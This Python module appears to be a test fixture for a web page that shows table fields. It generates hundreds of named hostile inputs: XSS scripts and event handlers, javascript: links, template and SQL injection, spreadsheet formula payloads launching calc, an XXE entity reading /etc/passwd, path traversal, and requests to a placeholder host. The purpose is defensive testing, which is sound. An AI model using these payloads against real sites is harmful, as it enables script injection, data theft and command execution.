"""Hostile texts, made here and not taken from a list: what may stand in a field of a table.

Each payload tells in the page that it ran by `PROBE` (it sets ``window.__pwned``), by a dialog, by
a request that leaves the page, or by a change of the page's address. `PAYLOADS` maps a name to the
text; the names say what each tries.
"""

from __future__ import annotations

from itertools import product
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

RUN = "window.__pwned=1"
PROBE = "window.__pwned === undefined"
"""True in a page in which no payload ran."""
OUT = "//outside.invalid/x"
"""An address that nothing may ask for."""


def _scripts() -> Iterator[tuple[str, str]]:
    yield "plain script", f"<script>{RUN}</script>"
    yield "upper case", f"<SCRIPT>{RUN}</SCRIPT>"
    yield "mixed case", f"<ScRiPt>{RUN}</sCrIpT >"
    yield "from outside", f'<script src="https:{OUT}.js"></script>'
    yield "from a data address", f'<script src="data:text/javascript,{RUN}"></script>'
    yield "as a module", f'<script type="module">{RUN}</script>'
    yield "with a slash", f"<script/x>{RUN}</script>"
    yield "with a line break", f"<script\n>{RUN}</script\n>"
    yield "with a form feed", f"<script\f>{RUN}</script\f>"
    yield "unclosed", f"<script>{RUN}//"
    yield "split by itself", f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield "in a template element", f"<template><script>{RUN}</script></template>"
    yield "in noscript", f"<noscript><p title='</noscript><script>{RUN}</script>'>"
    yield "after a text area", f"</textarea><script>{RUN}</script>"
    yield "after a title", f"</title><script>{RUN}</script>"
    yield "after a style", f"</style><script>{RUN}</script>"
    yield "after a frame", f"</iframe><script>{RUN}</script>"
    yield "after an attribute", f'"><script>{RUN}</script>'
    yield "after a quoted attribute", f"'><script>{RUN}</script>"
    yield "import map", f'<script type="importmap">{{}}</script><script>{RUN}</script>'
    yield (
        "speculation rules",
        '<script type="speculationrules">{"prefetch":[{"urls":["' + OUT + '"]}]}</script>',
    )


def _ends_of_scripts() -> Iterator[tuple[str, str]]:
    for name, end in (
        ("plain", "</script>"), ("upper", "</SCRIPT>"), ("space", "</script >"),
        ("attribute", "</script x>"), ("slash", "</script/>"), ("tab", "</script\t>"),
    ):  # fmt: skip
        yield f"ends the script, {name}", f"{end}<script>{RUN}</script>"
        yield f"ends the script with a handler, {name}", f"{end}<img src=x onerror={RUN}>"
    yield "opens a comment in the script", f"<!--<script>{RUN}</script>"
    yield "double escape", f"<!--<script>--></script><script>{RUN}</script>"
    yield "ends the data block", f'</script><script type="text/javascript">{RUN}</script>'
    yield "ends a JSON string", f'"}};{RUN};//'
    yield "ends a JSON string and array", f'"]}}]}};{RUN};//'
    yield "backslash before a quote", f'\\";{RUN};//'
    yield "line separator", f"\u2028{RUN}\u2028"
    yield "paragraph separator", f"\u2029{RUN}\u2029"
    yield "single quote in a script", f"';{RUN};'"
    yield "double quote in a script", f'";{RUN};"'
    yield "new line in a script", f"\n{RUN}\n"
    yield "comment end in a script", f"*/{RUN}/*"


def _templates() -> Iterator[tuple[str, str]]:
    yield "backtick", f"`;{RUN};`"
    yield "template expression", "${" + RUN + "}"
    yield "escaped backtick", "\\`;" + RUN + ";//"
    yield "backslash then expression", "\\\\${" + RUN + "}"
    yield "nested template", "${`${" + RUN + "}`}"
    yield "tagged template", "${(()=>{" + RUN + "})()}"
    yield "call without parentheses", "${alert`1`}"
    yield "jinja expression", "{{ 7 * 7 }}"
    yield "jinja statement", "{% for a in range(3) %}x{% endfor %}"
    yield "jinja comment", "{# gone #}"
    yield "jinja end of macro", "{% endmacro %}"
    yield "jinja attribute", "{{ this.__class__ }}"
    yield "angular", "{{constructor.constructor('" + RUN + "')()}}"
    yield "vue", "<p v-html=\"constructor.constructor('" + RUN + "')()\">"
    yield "erb", "<%= 7 * 7 %>"
    yield "php", f"<?php echo 1 ?><script>{RUN}</script>"
    yield "python format", "{0.__class__} %s %(x)s {title}"
    yield "dollar patterns of replace", "$& $1 $` $' $$"


def _handlers() -> Iterator[tuple[str, str]]:
    carriers = (
        ("img", "error", "<img src=x onerror={}>"),
        ("img in quotes", "error", '<img src="x" onerror="{}">'),
        ("img with slashes", "error", "<img/src=x/onerror={}>"),
        ("svg", "load", "<svg onload={}>"),
        ("svg in svg", "load", "<svg><svg onload={}>"),
        ("body", "load", "<body onload={}>"),
        ("body", "pageshow", "<body onpageshow={}>"),
        ("iframe", "load", "<iframe onload={}></iframe>"),
        ("iframe with document", "load", "<iframe srcdoc='x' onload={}></iframe>"),
        ("input", "focus", "<input autofocus onfocus={}>"),
        ("text area", "focus", "<textarea autofocus onfocus={}>"),
        ("select", "focus", "<select autofocus onfocus={}>"),
        ("button", "focus", "<button autofocus onfocus={}>x</button>"),
        ("anything that takes focus", "focus", "<p tabindex=0 autofocus onfocus={}>x"),
        ("details", "toggle", "<details open ontoggle={}>"),
        ("video", "error", "<video src=x onerror={}></video>"),
        ("video source", "error", "<video><source src=x onerror={}></video>"),
        ("audio", "error", "<audio src=x onerror={}></audio>"),
        ("object", "error", "<object data=x onerror={}></object>"),
        ("embed", "load", "<embed src=x onload={}>"),
        ("link", "error", "<link rel=stylesheet href=x onerror={}>"),
        ("style", "load", "<style onload={}></style>"),
        ("script", "error", "<script src=x onerror={}></script>"),
        ("marquee", "start", "<marquee onstart={}>x</marquee>"),
        ("animation", "end", "<style>@keyframes x{{}}</style><p style='animation:x' onanimationend={}>"),  # noqa: E501
        ("transition", "end", "<p style='transition:all 1s' ontransitionend={}>"),
        ("svg animation", "begin", "<svg><animate onbegin={} attributeName=x dur=1s>"),
        ("svg set", "begin", "<svg><set onbegin={} attributeName=x dur=1s>"),
        ("svg image", "error", "<svg><image href=x onerror={}>"),
        ("form data", "error", "<form><img src=x onerror={}></form>"),
        ("table", "error", "<table><img src=x onerror={}></table>"),
        ("math", "error", "<math><mtext><img src=x onerror={}></mtext></math>"),
        ("scroll", "scroll", "<div style='overflow:auto;height:1px' onscroll={}>x<p id=y></div>"),
        ("pointer", "over", "<p style='position:fixed;inset:0' onpointerover={}>x</p>"),
        ("click", "click", "<a href='#' onclick={}>x</a>"),
        ("popover", "toggle", "<div popover ontoggle={}>x</div>"),
    )  # fmt: skip
    for carrier, event, text in carriers:
        yield f"{carrier} on {event}", text.format(RUN)
    yield "out of an attribute", f'" onfocus={RUN} autofocus x="'
    yield "out of a single-quoted attribute", f"' onfocus={RUN} autofocus x='"
    yield "out of an unquoted attribute", f" onfocus={RUN} autofocus "
    yield "handler with entities", "<img src=x onerror=&#119;indow.__pwned=1>"
    yield "handler with a dialog", "<img src=x onerror=alert(1)>"
    yield "handler with a fetch", f"<img src=x onerror=fetch('https:{OUT}')>"
    yield "null byte in a tag", f"<im\0g src=x onerror={RUN}>"
    yield "null byte in a handler", f"<img src=x on\0error={RUN}>"
    yield "grave accent in an attribute", f"<img src=`x`onerror={RUN}>"


def _links() -> Iterator[tuple[str, str]]:
    schemes = (
        "javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\tscript:",
        "java\nscript:", "\x01javascript:", "javascript&colon;", "&#106;avascript:", "vbscript:",
        "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "blob:", "file:///etc/",
        "filesystem:", "view-source:javascript:", "feed:javascript:", "about:blank#",
    )  # fmt: skip
    for scheme in schemes:
        yield f"address {scheme!r}", f"{scheme}{RUN}"
        yield f"link to {scheme!r}", f'<a href="{scheme}{RUN}">x</a>'
    yield "address of a stranger, no scheme", OUT
    yield "address with a quote", f'https:{OUT}" onmouseover="{RUN}'
    yield "address with a tag", f"https:{OUT}><script>{RUN}</script>"
    yield "address with a user", "https://who@outside.invalid/"
    yield "address that looks like another", "https://exаmple.org/"
    yield "frame", f'<iframe src="javascript:{RUN}"></iframe>'
    yield "frame with a document", f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>'
    yield "form", f'<form action="javascript:{RUN}"><button autofocus>x</button></form>'
    yield "form action of a button", f'<button formaction="javascript:{RUN}">x</button>'
    yield "object", f'<object data="javascript:{RUN}"></object>'
    yield "embed", f'<embed src="javascript:{RUN}">'
    yield "base", f'<base href="https:{OUT}/">'
    yield "refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">'
    yield "refresh to outside", f'<meta http-equiv="refresh" content="0;url=https:{OUT}">'
    yield "policy", '<meta http-equiv="Content-Security-Policy" content="script-src *">'
    yield "ping", f'<a href="#" ping="https:{OUT}">x</a>'


def _loads() -> Iterator[tuple[str, str]]:
    for name, text in (
        ("picture", '<img src="https:{}">'),
        ("picture set", '<img srcset="https:{} 2x">'),
        ("background", '<body background="https:{}">'),
        ("style sheet", '<link rel="stylesheet" href="https:{}">'),
        ("preload", '<link rel="preload" as="image" href="https:{}">'),
        ("dns", '<link rel="dns-prefetch" href="https:{}">'),
        ("icon", '<link rel="icon" href="https:{}">'),
        ("manifest", '<link rel="manifest" href="https:{}">'),
        ("video", '<video src="https:{}" autoplay></video>'),
        ("poster", '<video poster="https:{}"></video>'),
        ("audio", '<audio src="https:{}" autoplay></audio>'),
        ("track", '<video><track src="https:{}" default></video>'),
        ("frame", '<iframe src="https:{}"></iframe>'),
        ("object", '<object data="https:{}"></object>'),
        ("input picture", '<input type="image" src="https:{}">'),
        ("svg picture", '<svg><image href="https:{}"/></svg>'),
        ("svg use", '<svg><use href="https:{}#x"/></svg>'),
        ("svg filter", '<svg><feImage href="https:{}"/></svg>'),
        ("style element", "<style>@import 'https:{}';</style>"),
        ("style of a font", "<style>@font-face{{font-family:x;src:url(https:{})}}*{{font-family:x}}</style>"),  # noqa: E501
        ("style attribute", '<p style="background:url(https:{})">x</p>'),
        ("cursor", '<p style="cursor:url(https:{}),auto">x</p>'),
        ("list mark", '<ul style="list-style:url(https:{})"><li>x</ul>'),
        ("style out of an attribute", '" style="background:url(https:{})'),
        ("portal", '<portal src="https:{}"></portal>'),
    ):  # fmt: skip
        yield f"loads a {name}", text.format(OUT)


def _style() -> Iterator[tuple[str, str]]:
    yield "hides the page", "<style>*{display:none!important}</style>"
    yield "covers the page", "<p style='position:fixed;inset:0;background:red;z-index:99999'>x</p>"
    yield "expression", f"<p style='width:expression({RUN})'>x</p>"
    yield "binding", f"<p style='-moz-binding:url(https:{OUT})'>x</p>"
    yield "out of a declaration", f"red;background:url(https:{OUT})"
    yield "out of a rule", "}*{display:none}"
    yield "reads an attribute", f"<style>[value^=a]{{background:url(https:{OUT})}}</style>"
    yield "behaviour", f"<p style='behavior:url(https:{OUT})'>x</p>"


def _markup() -> Iterator[tuple[str, str]]:
    yield "comment", "<!-- text -->"
    yield "open comment", "<!-- text"
    yield "end of a comment", f"--><script>{RUN}</script>"
    yield "bang comment", f"<!--!><img src=x onerror={RUN}>-->"
    yield "abrupt comment", f"<!--><img src=x onerror={RUN}>"
    yield "character data", f"<![CDATA[<script>{RUN}</script>]]>"
    yield "declaration", "<!DOCTYPE html><html><body>"
    yield "entity declaration", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'
    yield "processing instruction", f"<?xml-stylesheet href='javascript:{RUN}'?>"
    yield "ends the body", "</body></html>"
    yield "ends many elements", "</div></section></main></button></li></ul></dialog>"
    yield "plain text", f"<plaintext>{RUN}"
    yield "svg script", f"<svg><script>{RUN}</script></svg>"
    yield "svg script by address", f'<svg><script href="data:text/javascript,{RUN}"/></svg>'
    yield "svg link", f'<svg><a href="javascript:{RUN}"><text y=20>x</text></a></svg>'
    yield "svg foreign", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>"
    yield "svg style", f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>"
    yield "mutation", f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>"
    yield (
        "mutation by a table",
        (
            "<math><mtext><table><mglyph><style><!--</style>"
            f"<img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>"
        ),
    )
    yield "custom element", f"<x-y onconnected={RUN} is=x>x</x-y>"
    yield (
        "shadow root",
        f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
    )
    yield (
        "clobbers names",
        "<form id=geomap><input name=ready></form><a id=L></a><img name=getElementById>",
    )
    yield "overwrites the data block", '<script type="application/x-geomap" id="head">{}</script>'
    yield "names of prototypes", "__proto__"
    yield "name of the constructor", "constructor"
    yield "name of a method", "toString"
    yield "proto as JSON", '{"__proto__":{"polluted":1}}'
    yield "ampersand", "AT&T &amp; &lt;b&gt; &nbsp; &copy"
    yield "entities of a script", f"&lt;script&gt;{RUN}&lt;/script&gt;"
    yield "numeric entities", f"&#60;script&#62;{RUN}&#60;/script&#62;"
    yield "double entities", f"&amp;lt;script&amp;gt;{RUN}"
    yield "escaped in JSON", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e"
    yield "escaped in hexadecimal", f"\\x3cscript\\x3e{RUN}"
    yield "percent escapes", f"%3Cscript%3E{RUN}%3C/script%3E"
    yield "full-width signs", f"＜script＞{RUN}＜/script＞"
    yield "overlong look-alikes", f"‹script›{RUN}‹/script›"
    yield "utf-7", "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-"


def _letters() -> Iterator[tuple[str, str]]:
    yield "right-to-left override", "report \u202etxt.exe\u202c end"
    yield "left-to-right override", "\u202dabc\u202c دمشق"
    yield "isolates without end", "\u2066\u2067\u2068 text"
    yield "many embeddings", "\u202b" * 200 + "text"
    yield "pop without push", "\u202c\u2069\u2069 text"
    yield "letter mark", "\u061c123 \u200f\u200e"
    yield "null byte", "a\0b"
    yield "only null bytes", "\0\0\0"
    yield "control letters", "".join(map(chr, range(1, 32)))
    yield "c1 control letters", "".join(map(chr, range(0x80, 0xA0)))
    yield "escape sequences of a terminal", "\x1b[2J\x1b]0;title\x07"
    yield "high surrogate alone", "a\ud83db"
    yield "low surrogate alone", "a\ude00b"
    yield "surrogates in wrong order", "\ude00\ud83d"
    yield "no characters", "\ufffe\uffff\ufdd0"
    yield "byte order mark", "\ufefftext\ufeff"
    yield "zero-width letters", "a\u200bb\u200cc\u200dd\u2060e"
    yield "tag letters", "text\U000e0061\U000e0062\U000e007f"
    yield "many marks on one letter", "Z" + "\u0301\u0323\u0488" * 300
    yield "emoji of many parts", "👩‍👩‍👧‍👦" * 50
    yield "Arabic ligature", "ﷺ﷽" * 20
    yield "very long word", "ا" * 5_000
    yield "one million letters", "x" * 1_000_000
    yield "one million tags", "<b>" * 333_334
    yield "one million line breaks", "\n" * 1_000_000
    yield "many lines", "line\r\n" * 2_000
    yield "only spaces", " \t\u00a0\u3000 "
    yield "empty", ""
    yield "a number", "1e309"
    yield "not a number", "NaN"
    yield "nothing in words", "null"


def _formulas() -> Iterator[tuple[str, str]]:
    for sign, rest in product(
        "=+-@", ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https:' + OUT + '","x")')
    ):
        yield f"formula {sign}{rest[:4]}", sign + rest
    yield "formula after a tab", "\t=1+1"
    yield "formula after a line break", "\r\n=1+1"
    yield "formula after a quote", '"=1+1'
    yield "formula of full width", "＝1+1"
    yield "cells and rows", 'a","b"\r\n"c;d|e'
    yield "exchange of data", '=DDE("cmd";"/C calc";"x")'
    yield "web service", f'=WEBSERVICE("https:{OUT}")'


def _addresses() -> Iterator[tuple[str, str]]:
    """Texts that a link to the page could carry after ``#``."""
    yield "hash with a tag", f"#<img src=x onerror={RUN}>"
    yield "hash with a filter", f"#type=<script>{RUN}</script>"
    yield "hash with a script", f"#javascript:{RUN}"
    yield "hash with a broken escape", "#text=%E0%A4%A"
    yield "hash with a prototype", "#__proto__[x]=1&constructor.prototype.x=1"
    yield "hash that is long", "#" + "a=" * 5_000
    yield "hash with numbers that are none", "#lat=NaN&lon=Infinity&z=1e999&from=99999-99-99"
    yield "path upwards", "../../../../etc/passwd"
    yield "query language", "'; DROP TABLE events; --"
    yield "regular expression", "(a+)+$ [[[ *** (?<x>"


_KINDS = (
    ("script", _scripts), ("end", _ends_of_scripts), ("template", _templates),
    ("handler", _handlers), ("link", _links), ("load", _loads), ("style", _style),
    ("markup", _markup), ("letters", _letters), ("formula", _formulas), ("address", _addresses),
)  # fmt: skip

PAYLOADS: dict[str, str] = {
    f"{kind}: {name}": text for kind, make in _KINDS for name, text in make()
}
"""Every payload by a name that says what it tries."""

LONG = frozenset(name for name, text in PAYLOADS.items() if len(text) > 100_000)
"""Those of a megabyte, of which one page holds only a few."""


def of_kind(*kinds: str) -> dict[str, str]:
    """Return the payloads of some kinds: ``script``, ``handler``, ``link`` ..."""
    return {name: text for name, text in PAYLOADS.items() if name.split(":")[0] in kinds}
